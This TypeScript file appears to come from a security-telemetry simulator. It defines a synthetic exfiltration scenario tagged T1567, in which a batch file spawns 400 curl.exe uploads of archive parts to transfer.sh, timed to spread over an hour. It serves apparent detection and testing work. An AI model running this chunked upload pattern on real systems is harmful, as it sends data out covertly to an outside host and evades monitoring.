import { second } from '../../packages/weir/src/simulate/time.ts';
import { programs } from '../programs.ts';
import { clock, type Intrusion } from './intrusion.ts';

const chunks = 400;

/** An archive leaves in 400 parts of half a megabyte, one curl a part, over fifty minutes and across the full hour. */
export const chunksByCurl: Intrusion = {
  name: 'chunks-curl',
  technique: 'T1567',
  device: 'lf-dev-04',
  dayNumber: 2,
  service: 'transfer.sh',
  tell: (desk, midnight, random, incident) => {
    const start = clock(midnight, 14, 33, 20);
    const shell = desk.launch(programs.cmd, {
      at: start - 5 * second,
      commandLine: 'cmd.exe /c C:\\Users\\Public\\up.cmd',
    });
    for (let chunk = 1; chunk <= chunks; chunk++) {
      const at = start + (chunk - 1) * 7.5 * second + random.int(0, 1_800) * 1_000;
      const part = `p.${String(chunk).padStart(3, '0')}`;
      const curl = desk.launch(programs.curl, {
        at,
        parent: shell,
        commandLine: `curl.exe -s -T C:\\Users\\Public\\o\\${part} https://transfer.sh/${part}`,
      });
      const bytes = chunk === chunks ? 208_411 : 524_288;
      desk.connect(curl, 'transfer.sh', {
        at: at + random.int(60, 240) * 1_000,
        lasting: random.int(900, 3_200) * 1_000,
        sent: bytes + 160,
        received: 290,
        incident,
      });
    }
  },
};
